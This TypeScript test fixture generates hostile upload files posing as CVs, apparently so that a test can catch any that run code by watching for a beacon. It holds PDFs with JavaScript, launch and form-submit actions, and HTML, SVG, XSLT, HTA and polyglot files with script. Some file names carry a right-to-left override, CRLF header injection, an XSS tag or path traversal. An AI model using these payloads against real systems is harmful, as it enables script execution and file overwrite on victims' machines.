// Files that a third party could send as a CV to attack the reader. A file that can run code calls
// `beacon`, so that a test detects it.

export type HostileFile = {
  name: string;
  bytes: Buffer;
  /** The most dangerous type that a storage could serve it with. */
  type: string;
};

export function createHostileFiles(beacon: string): HostileFile[] {
  const code = (what: string) => `new Image().src='${beacon}${what}';fetch('${beacon}${what}')`;
  const script = (what: string) => `<script>${code(what)}</script>`;
  const text = (name: string, type: string, content: string): HostileFile => ({
    name,
    type,
    bytes: Buffer.from(content, 'latin1'),
  });
  const pdf = (name: string, catalog: string, page = '') =>
    text(name, 'application/pdf', toPdf(catalog, page));
  const plainPdf = toPdf('', '');
  const action = (kind: string, rest: string) => `/OpenAction<</S/${kind}${rest}>>`;

  return [
    pdf('javascript.pdf', action('JavaScript', `/JS(${code('pdf-js')};app.alert\\(1\\))`)),
    pdf('page-action.pdf', '', `/AA<</O<</S/JavaScript/JS(${code('pdf-aa')})>>>>`),
    pdf('launch.pdf', action('Launch', '/F(/bin/sh)/NewWindow true')),
    pdf('submit-form.pdf', action('SubmitForm', `/F(${beacon}pdf-submit)`)),
    pdf('address.pdf', action('URI', `/URI(${beacon}pdf-uri)`)),
    pdf('embedded.pdf', '/Names<</EmbeddedFiles<</Names[(a.html)<</F(a.html)>>]>>>>'),
    pdf('xfa.pdf', '/AcroForm<</XFA(<xdp:xdp><script>app.alert(1)</script></xdp:xdp>)>>'),
    pdf('rich-media.pdf', '', '/Annots[<</Subtype/RichMedia/RichMediaContent<<>>>>]'),
    text('page.html', 'text/html', `<!doctype html>${script('html')}`),
    text('page.xhtml', 'application/xhtml+xml', toXhtml(code('xhtml'))),
    text('drawing.svg', 'image/svg+xml', toSvg(code('svg'))),
    text('style.xml', 'text/xml', toStyledXml(script('xslt'))),
    text('module.js', 'text/javascript', `${code('js')};self.onfetch=()=>{};`),
    text('style.css', 'text/css', `body{background:url(${beacon}css)}`),
    text('archive.mht', 'multipart/related', toArchive(script('mht'))),
    text('shell.hta', 'application/hta', `<hta:application>${script('hta')}`),
    text('html-then.pdf', 'text/html', `${script('html-pdf')}\n${plainPdf}`),
    text(
      'comment.pdf',
      'text/html',
      plainPdf.replace('%PDF-1.7\n', `%PDF-1.7\n%${script('pdf-html')}\n`),
    ),
    text('jar.pdf', 'application/pdf', `${plainPdf}PK\x05\x06${'\0'.repeat(18)}`),
    text('gif-js.pdf', 'image/gif', `GIF89a/*${'\0'.repeat(9)}*/=1;${code('gif')}`),
    text('cv.pdf\u202Elmth.exe', 'text/html', script('rtl')),
    text('cv\r\nContent-Type: text/html\r\n\r\n.pdf', 'text/html', script('crlf')),
    text('"><img src=x onerror=alert(1)>.html', 'text/html', script('markup')),
    text('../../etc/cron.d/cv.html', 'text/html', script('path')),
  ];
}

function toPdf(catalog: string, page: string): string {
  const objects = [
    `<</Type/Catalog/Pages 2 0 R${catalog}>>`,
    '<</Type/Pages/Kids[3 0 R]/Count 1>>',
    `<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]${page}>>`,
  ].map((object, index) => `${index + 1} 0 obj${object}endobj\n`);
  const body = `%PDF-1.7\n${objects.join('')}`;
  const offsets = objects.map((_, index) => 9 + objects.slice(0, index).join('').length);
  const table = offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('');
  return `${body}xref\n0 4\n0000000000 65535 f \n${table}trailer<</Size 4/Root 1 0 R>>\nstartxref\n${body.length}\n%%EOF\n`;
}

const toXhtml = (code: string) =>
  `<html xmlns="http://www.w3.org/1999/xhtml"><body><script>${code}</script></body></html>`;
const toSvg = (code: string) =>
  `<svg xmlns="http://www.w3.org/2000/svg" onload="${code.replaceAll('"', '&quot;')}"><script>${code}</script></svg>`;
const toStyledXml = (script: string) =>
  `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#x"?><x xmlns:h="http://www.w3.org/1999/xhtml">${script.replaceAll('script', 'h:script')}</x>`;
const toArchive = (script: string) =>
  `MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n${script}\r\n--b--\r\n`;
